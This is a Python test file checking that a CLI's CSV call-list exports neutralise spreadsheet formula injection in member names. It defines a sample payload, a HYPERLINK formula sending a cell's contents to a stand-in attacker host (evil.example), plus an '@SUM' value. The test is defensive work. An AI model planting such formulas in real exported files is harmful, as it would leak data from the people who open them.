"""Call lists exported for a dialer or a spreadsheet cannot attack the person who opens them
(OWASP CSV injection, issue #17): a member's name is data, never a formula."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta

from calls_helpers import make_world
from click.testing import CliRunner

from cli import cli
from engine.app import App

ATTACK = '=HYPERLINK("http://evil.example/?leak="&A1,"Call me")'


def afternoon_zone() -> str:
    offset = (14 - datetime.now(UTC).hour + 12) % 24 - 12
    return f"Etc/GMT{-offset:+d}" if offset else "Etc/GMT"


def test_export_and_list_neutralise_formulas_in_member_fields(app: App) -> None:
    w = make_world(app)
    due = datetime.now(UTC) - timedelta(hours=1)
    w.task(
        w.member(timezone=afternoon_zone(), first_name=ATTACK, last_name="@SUM(1+1)"), due_at=due
    )
    for args in (["calls", "export", "--format", "csv"], ["calls", "list", "--csv"]):
        result = CliRunner().invoke(cli, ["--database-url", app.settings.database_url, *args])
        assert result.exit_code == 0, result.output
        [row] = list(csv.DictReader(io.StringIO(result.output)))
        assert row["name"].startswith("'=HYPERLINK("), row
        assert ATTACK in row["name"]  # the text is all there, only made inert
        assert row["phone"].startswith("+1202555")  # a phone number is a value, left alone
        for value in row.values():
            assert not value.startswith(("=", "@", "\t", "\r")), (args, row)
